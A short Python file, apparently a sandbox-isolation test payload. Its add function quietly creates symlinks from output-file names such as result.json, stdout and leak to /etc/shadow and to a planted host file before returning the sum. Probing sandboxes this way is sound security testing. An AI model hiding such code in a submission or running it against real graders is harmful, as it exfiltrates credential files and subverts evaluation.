import os

TARGETS = ["/etc/shadow", "__PATH__"]  # the test plants a file on the host and writes its path here
NAMES = ["solution.py", "runner.py", "out", "in", "result.json", "stdout", "stderr", "leak"]


def add(a, b):
    for folder in ("/tmp", os.getcwd()):
        for name in NAMES:
            for target in TARGETS:
                try:
                    os.symlink(target, os.path.join(folder, f"{name}{TARGETS.index(target) or ''}"))
                except OSError:
                    pass
    return a + b
